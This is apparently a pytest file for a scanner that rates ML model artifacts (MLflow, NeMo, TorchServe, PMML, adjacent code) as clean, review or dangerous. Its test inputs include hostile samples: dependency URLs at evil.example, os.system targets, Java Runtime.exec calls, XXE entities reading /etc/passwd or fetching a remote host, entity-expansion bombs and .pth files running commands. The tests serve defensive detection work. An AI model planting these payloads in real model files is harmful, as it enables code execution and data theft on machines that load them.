"""What lies in the folders and archives of models: MLflow, NeMo, TorchServe, PMML, source code."""

from __future__ import annotations

import io
import json
import sys
import tarfile

import pytest

from crenel.scan import Verdict, scan_bytes, scan_file

from .corpus import proto, zipped
from .mutation import ends_in_a_verdict

MLMODEL = """artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    code: null
  sklearn:
    code: null
    pickled_model: model.pkl
mlflow_version: 2.14.1
"""


def tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, body in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("", "", "clean"),
        ("mlflow.sklearn", "os", "dangerous"),
        ("mlflow.sklearn", "my_loader", "dangerous"),
        ("loader_module: mlflow.sklearn", 'loader_module: "my\\x5floader"', "dangerous"),
        ("    code: null\n  sklearn", "    code: code\n  sklearn", "review"),
        ("    code: null\n  sklearn", "    model_code_path: model.py\n  sklearn", "dangerous"),
    ],
)
def test_mlflow(old, new, expected):
    result = scan_bytes(MLMODEL.replace(old, new).encode(), "MLmodel")
    assert (result.format, result.verdict) == ("mlflow", expected), result


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("requirements.txt", "numpy==1.26\nscipy>=1.5  # https://example.org\n", "clean"),
        ("requirements.txt", "git+https://evil.example/x.git\n", "review"),
        ("requirements.txt", "x @ https://evil.example/x.whl\n", "review"),
        ("requirements.txt", "--extra-index-url https://evil.example\nnumpy\n", "review"),
        ("conda.yaml", "dependencies:\n- python=3.11\n- pip:\n  - numpy\n", "clean"),
        ("conda.yaml", "dependencies:\n- pip:\n  - git+https://evil.example/x\n", "review"),
        ("python_env.yaml", "build_dependencies:\n- -f https://evil.example\n", "review"),
        ("config.yaml", "homepage:\n- https://example.org\n", "clean"),
    ],
)  # fmt: skip
def test_what_a_model_installs(name, text, expected):
    assert scan_bytes(text.encode(), name).verdict == expected


@pytest.mark.parametrize("text", [b"-" * 2_000_000, b"a @ " * 200_000, b"pip:\n" + b"- " * 500_000])
def test_odd_lists_of_packages_take_no_time(text):
    for name in ("requirements.txt", "conda.yaml"):
        assert isinstance(scan_bytes(text, name).verdict, Verdict)


def test_nemo_archives_are_judged_by_their_configuration():
    weights = zipped([("m/data.pkl", proto(2) + b"}.")])
    for target, expected in (("nemo.collections.asr.models.EncDecCTCModel", "clean"),
                             ("os.system", "malicious"), ("evil.Model", "review")):  # fmt: skip
        config = f"target: x\nmodel:\n  _target_: {target}\n".encode()
        data = tar({"./model_config.yaml": config, "./model_weights.ckpt": weights})
        assert scan_bytes(data, "model.nemo").verdict == expected


def manifest(**model: str) -> bytes:
    return json.dumps({"runtime": "python", "model": {"modelName": "m", **model}}).encode()


@pytest.mark.parametrize(
    ("model", "expected"),
    [
        ({"handler": "image_classifier", "serializedFile": "model.pt"}, "clean"),
        ({"handler": "my_handler.py"}, "dangerous"),
        ({"handler": "image_classifier", "modelFile": "model.py"}, "dangerous"),
        ({"handler": "image_classifier", "requirementsFile": "requirements.txt"}, "review"),
    ],
)
def test_torchserve_archives(model, expected):
    members = {"MAR-INF/MANIFEST.json": manifest(**model), "readme.txt": b"text"}
    assert scan_bytes(zipped(list(members.items())), "m.mar").verdict == expected
    assert scan_bytes(tar(members), "m.tar").verdict == expected


PMML = """<?xml version="1.0"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4">%s<DataDictionary/><TreeModel/></PMML>"""


@pytest.mark.parametrize(
    ("inner", "expected"),
    [
        ("", "clean"),
        ('<Extension name="author">A. Person</Extension>', "clean"),
        ("<Extension>java.lang.Runtime.getRuntime().exec('id')</Extension>", "dangerous"),
        ('<Apply function="uppercase"/>', "clean"),
        ('<Apply function="org.evil.Function"/>', "review"),
        ('<Apply function="java.lang.Runtime.exec"/>', "dangerous"),
        ("<script>x</script>", "dangerous"),
        ('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>', "dangerous"),
    ],
)
def test_pmml(inner, expected):
    result = scan_bytes((PMML % inner).encode(), "model.pmml")
    assert (result.format, result.verdict) == ("pmml", expected), result


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        ('<!DOCTYPE PMML [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>', "dangerous"),
        ('<!DOCTYPE PMML [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "dangerous"),
        ('<!DOCTYPE PMML [<!ENTITY % a SYSTEM "http://evil.example/x"> %a;]>', "dangerous"),
        ('<!DOCTYPE PMML SYSTEM "http://evil.example/x.dtd">', "review"),
        ('<?xml-stylesheet href="evil.xsl"?>', "review"),
    ],
)
def test_entities_are_refused_before_they_expand(head, expected):
    text = PMML % "&b;" if "ENTITY b" in head else PMML % ""
    data = text.replace("<PMML", head + "<PMML", 1).encode()
    assert scan_bytes(data, "model.pmml").verdict == expected


def test_xml_that_is_none():
    assert scan_bytes(b"<?xml version='1.0'?><PMML>", "model.pmml").verdict is Verdict.UNREADABLE
    assert scan_bytes(b"<b>bold, <i>not closed</b>", "page.txt").verdict is Verdict.CLEAN
    openvino = b'<?xml version="1.0"?><net name="m"><layer type="Evil" version="extension"/></net>'
    assert (scan_bytes(openvino).format, scan_bytes(openvino).verdict) == ("openvino", "review")


@pytest.mark.parametrize(
    ("name", "body", "expected"),
    [
        ("train.py", b"import os\n", "review"),
        ("notes.ipynb", b'{"cells": []}', "review"),
        ("sitecustomize.py", b"import os\n", "dangerous"),
        ("conftest.py", b"import os\n", "dangerous"),
        ("handler.py", b"class EndpointHandler: pass\n", "dangerous"),
        ("hubconf.py", b"x = 1\n", "dangerous"),
        ("json.py", b"x = 1\n", "dangerous"),
        ("torch.py", b"x = 1\n", "dangerous"),
        ("x.pth", b"import os; os.system('id')\n", "dangerous"),
        ("x.pth", b"/opt/packages\n", "review"),
        ("weights.bin", b"import os\nos.system('id')\n", "review"),
        ("notes.txt", b"from here we import the data\n", "clean"),
        ("readme.py.txt", b"a,b\n1,2\n", "clean"),
        ("x.so", b"\x7fELF" + bytes(60), "dangerous"),
        ("x.dylib", b"\xce\xfa\xed\xfe" + bytes(60), "dangerous"),
        ("x.wasm", b"\0asm\1\0\0\0" + bytes(60), "dangerous"),
        ("template.py", b"x = '{% for m in messages %}'\n", "review"),
    ],
)
def test_code_beside_weights(name, body, expected):
    assert scan_bytes(body, name).verdict == expected


def test_a_module_of_a_package_shadows_nothing(tmp_path):
    module = tmp_path / "json.py"
    module.write_text("x = 1\n")
    assert scan_file(module).verdict is Verdict.DANGEROUS
    (tmp_path / "__init__.py").write_text("")
    assert scan_file(module).verdict is Verdict.REVIEW


def test_what_python_compiled_is_dangerous(tmp_path):
    import py_compile

    source = tmp_path / "m.py"
    source.write_text("x = 1\n")
    compiled = py_compile.compile(str(source), str(tmp_path / "m.pyc"))
    result = scan_file(compiled)
    assert (result.format, result.verdict) == ("python-compiled", Verdict.DANGEROUS), sys.version


def test_a_damaged_7z_is_unreadable():
    """The container of the nullifAI files, which scanners passed over in silence."""
    result = scan_bytes(b"7z\xbc\xaf\x27\x1c\0\4" + bytes(60), "model.pt")
    assert (result.format, result.verdict) == ("7z", Verdict.UNREADABLE)


def test_changed_texts_end_in_a_verdict():
    samples = [(PMML % "<Apply function='a.b'/>").encode(), MLMODEL.encode(), manifest(handler="x")]
    ends_in_a_verdict(samples, "MLmodel")
    ends_in_a_verdict(samples, "model.pmml")
